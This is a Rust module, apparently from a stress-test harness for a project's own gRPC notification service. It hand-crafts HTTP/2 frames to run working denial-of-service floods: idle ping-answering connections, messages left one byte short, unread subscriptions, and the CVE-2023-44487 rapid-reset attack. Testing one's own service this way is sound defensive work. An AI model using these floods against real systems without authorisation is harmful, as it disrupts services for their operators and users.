//! Floods of the gRPC listener, by HTTP/2 as far as they need it: a client that opens calls, sends what the server's windows let
//! it, and answers pings.

use std::{collections::BTreeMap, io};

use exposia_notifications::wire::proto::v1::SubscribeRequest;
use prost::Message as _;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt, BufReader},
    net::TcpStream,
};

use super::{Attacker, LIVE};

const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const WINDOW_UPDATE: u8 = 0x8;

const ACK: u8 = 0x1;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

const INITIAL_WINDOW_SIZE: u16 = 0x4;
const CANCEL: u32 = 8;

/// RFC 9113, 6.5.2 and 6.9.2: what holds until the other side says otherwise.
const FIRST_WINDOW: i64 = 65_535;
const MAX_FRAME: usize = 16_384;

/// How many unfinished messages one connection has.
const CALLS: usize = 30;

/// The lengths of messages that are never finished: the largest that a gRPC library decodes for anybody, and what a publisher may send.
const HEALTH: usize = 4 * 1024 * 1024;
const PUBLISH: usize = 1024 * 1024;

/// How many calls are made and reset in one write.
const RESETS: usize = 200;

/// What unfinished messages are made of.
static CONTENT: [u8; MAX_FRAME] = [b'x'; MAX_FRAME];

const CHECK: &str = "/grpc.health.v1.Health/Check";

/// Connections without a token that answer pings.
pub(super) async fn pings_answered(attacker: &Attacker) -> io::Result<()> {
    let mut client = Client::open(attacker, &[]).await?;
    attacker.stands();
    loop {
        client.next().await?;
    }
}

/// Messages of anybody to the health service, each but for its last byte.
pub(super) async fn unfinished_health(attacker: &Attacker) -> io::Result<()> {
    unfinished(attacker, &head(CHECK, None), HEALTH).await
}

/// The same of a publisher.
pub(super) async fn unfinished_publishes(attacker: &Attacker) -> io::Result<()> {
    unfinished(attacker, &head(&method("Publish"), Some(attacker.target.token)), PUBLISH).await
}

/// Subscriptions that nobody reads: the window of each is open by a byte.
pub(super) async fn unread_subscriptions(attacker: &Attacker) -> io::Result<()> {
    let window = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &1_u32.to_be_bytes()].concat();
    let mut client = Client::open(attacker, &window).await?;
    let message = SubscribeRequest { rooms: vec![LIVE.to_owned()], ..SubscribeRequest::default() }.encode_to_vec();
    let request = [&prefix(message.len())[..], &message].concat();
    client.call(&head(&method("Subscribe"), Some(attacker.target.token))).await?;
    client.stream.write_all(&frame(DATA, END_STREAM, client.newest, &request)).await?;
    while !client.calls.is_empty() {
        client.next().await?;
        attacker.stands();
    }
    Ok(())
}

/// Calls that are reset as soon as they are made (CVE-2023-44487).
pub(super) async fn rapid_reset(attacker: &Attacker) -> io::Result<()> {
    let client = Client::open(attacker, &[]).await?;
    let head = head(CHECK, None);
    let (mut reader, mut writer) = client.stream.into_inner().into_split();
    let resetting = async {
        for batch in 0_u32.. {
            let numbers = (0..RESETS as u32).map(|call| 2 * (batch * RESETS as u32 + call) + 1);
            let reset = |number| {
                [frame(HEADERS, END_HEADERS, number, &head), frame(RST_STREAM, 0, number, &CANCEL.to_be_bytes())]
            };
            writer.write_all(&numbers.flat_map(reset).flatten().collect::<Vec<u8>>()).await?;
            attacker.stands();
        }
        Ok(())
    };
    let mut scrap = [0; 4_096];
    let listening = async {
        while reader.read(&mut scrap).await? > 0 {}
        Ok(())
    };
    tokio::select! {
        ended = resetting => ended,
        ended = listening => ended,
    }
}

/// Sends messages but for their last byte, until each call has ended or the server hangs up.
async fn unfinished(attacker: &Attacker, head: &[u8], length: usize) -> io::Result<()> {
    let mut client = Client::open(attacker, &[]).await?;
    for _ in 0..CALLS {
        client.call(head).await?;
        client.begin_message(length).await?;
    }
    while !client.calls.is_empty() {
        client.send().await?;
        if client.calls.values().all(|call| call.left == 0) {
            attacker.stands();
        }
        client.next().await?;
    }
    Ok(())
}

/// A call that is open.
#[derive(Debug)]
struct Call {
    /// How much of its message is still to be sent.
    left: usize,
    /// How much of it the server takes.
    window: i64,
}

/// A connection, after its preface.
#[derive(Debug)]
struct Client {
    stream: BufReader<TcpStream>,
    calls: BTreeMap<u32, Call>,
    /// The number of the newest call.
    newest: u32,
    window: i64,
    first_window: i64,
}

impl Client {
    async fn open(attacker: &Attacker, settings: &[u8]) -> io::Result<Self> {
        let mut stream = attacker.connect(attacker.target.grpc).await?;
        let preface = [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(SETTINGS, 0, 0, settings)].concat();
        stream.write_all(&preface).await?;
        Ok(Self {
            stream: BufReader::with_capacity(512, stream),
            calls: BTreeMap::new(),
            newest: 0,
            window: FIRST_WINDOW,
            first_window: FIRST_WINDOW,
        })
    }

    async fn call(&mut self, head: &[u8]) -> io::Result<()> {
        self.newest = if self.newest == 0 { 1 } else { self.newest + 2 };
        self.calls.insert(self.newest, Call { left: 0, window: self.first_window });
        self.stream.write_all(&frame(HEADERS, END_HEADERS, self.newest, head)).await
    }

    /// Says in the newest call that a message of this length comes, all of which but one byte is then to be sent.
    async fn begin_message(&mut self, length: usize) -> io::Result<()> {
        let prefix = prefix(length);
        self.stream.write_all(&frame(DATA, 0, self.newest, &prefix)).await?;
        self.window -= prefix.len() as i64;
        if let Some(call) = self.calls.get_mut(&self.newest) {
            call.window -= prefix.len() as i64;
            call.left = length - 1;
        }
        Ok(())
    }

    /// Sends what the windows let it, a little of each call in turn.
    async fn send(&mut self) -> io::Result<()> {
        loop {
            let mut sent = 0;
            for (number, call) in &mut self.calls {
                let may = usize::try_from(self.window.min(call.window)).unwrap_or(0).min(call.left).min(MAX_FRAME);
                if may == 0 {
                    continue;
                }
                self.stream.write_all(&frame(DATA, 0, *number, &CONTENT[..may])).await?;
                call.left -= may;
                call.window -= may as i64;
                self.window -= may as i64;
                sent += may;
            }
            if sent == 0 {
                return Ok(());
            }
        }
    }

    /// Takes in a frame, and answers it as every client does.
    async fn next(&mut self) -> io::Result<()> {
        let mut head = [0; 9];
        self.stream.read_exact(&mut head).await?;
        let [a, b, c, kind, flags, number @ ..] = head;
        let mut content = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
        self.stream.read_exact(&mut content).await?;
        let number = u32::from_be_bytes(number);
        match kind {
            SETTINGS if flags & ACK == 0 => {
                self.heed(&content);
                self.stream.write_all(&frame(SETTINGS, ACK, 0, b"")).await?;
            }
            PING if flags & ACK == 0 => self.stream.write_all(&frame(PING, ACK, 0, &content)).await?,
            WINDOW_UPDATE => {
                let more = content.first_chunk().map_or(0, |more| i64::from(u32::from_be_bytes(*more)));
                match self.calls.get_mut(&number) {
                    _ if number == 0 => self.window += more,
                    Some(call) => call.window += more,
                    None => {}
                }
            }
            RST_STREAM => drop(self.calls.remove(&number)),
            HEADERS | DATA if flags & END_STREAM != 0 => drop(self.calls.remove(&number)),
            GOAWAY => return Err(io::ErrorKind::ConnectionAborted.into()),
            _ => {}
        }
        Ok(())
    }

    fn heed(&mut self, settings: &[u8]) {
        for setting in settings.chunks_exact(6) {
            let [a, b, value @ ..] = setting else { continue };
            if let (INITIAL_WINDOW_SIZE, Some(value)) = (u16::from_be_bytes([*a, *b]), value.first_chunk()) {
                let window = i64::from(u32::from_be_bytes(*value));
                let more = window - self.first_window;
                self.calls.values_mut().for_each(|call| call.window += more);
                self.first_window = window;
            }
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, content: &[u8]) -> Vec<u8> {
    let length = u32::try_from(content.len()).expect("a length").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), content].concat()
}

/// What stands before a gRPC message: that it is not compressed, and how long it is.
fn prefix(length: usize) -> [u8; 5] {
    let [a, b, c, d] = u32::try_from(length).expect("a length").to_be_bytes();
    [0, a, b, c, d]
}

fn method(name: &str) -> String {
    format!("/exposia.notifications.v1.NotificationService/{name}")
}

/// The head of a call in HPACK, every field as it is and without a place in the table.
fn head(path: &str, token: Option<&str>) -> Vec<u8> {
    let bearer = token.map(|token| format!("Bearer {token}"));
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "x"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    let text = |text: &str| [&[u8::try_from(text.len()).expect("a short text")], text.as_bytes()].concat();
    let all = fields.into_iter().chain(bearer.as_deref().map(|bearer| ("authorization", bearer)));
    all.flat_map(|(name, value)| [vec![0], text(name), text(value)].concat()).collect()
}
